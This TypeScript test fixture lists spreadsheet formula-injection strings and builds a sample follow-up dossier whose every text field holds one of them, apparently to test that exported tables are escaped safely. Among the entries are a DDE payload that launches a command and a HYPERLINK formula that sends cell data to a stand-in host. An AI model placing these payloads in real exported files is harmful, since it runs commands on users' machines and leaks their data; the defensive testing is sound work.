import type { Dossier } from '@balise/schema';
import { followUp, visit } from './some-follow-ups.ts';

/** What a spreadsheet may run, or may break a table on. */
export const HOSTILE = [
  '=1+1',
  '+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '=1\n+1',
  '"=1+1',
  '";=1+1;"',
  "';=1+1",
  'a\n=1+1',
  'a\r=1+1',
  'a;=1+1',
  'a,=1+1',
  'a\t=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("http://x.example/?"&A1)',
] as const;

/**
 * A follow-up whose every text is this one, also where a checked file could not have it: the table is not to depend on
 * who has checked.
 */
export function hostileFollowUp(text: string): Dossier {
  const texts = (value: unknown): unknown => {
    if (typeof value === 'string') return text;
    if (Array.isArray(value)) return value.map(texts);
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, texts(one)]));
  };
  const whole = followUp({
    visits: [
      visit({
        context: {
          reasons: ['papiers'],
          devices: ['telephone'],
          access: ['rien'],
          support: ['grand-texte'],
          age: ['70-plus'],
        },
      }),
    ],
  });
  return texts(whole) as Dossier;
}
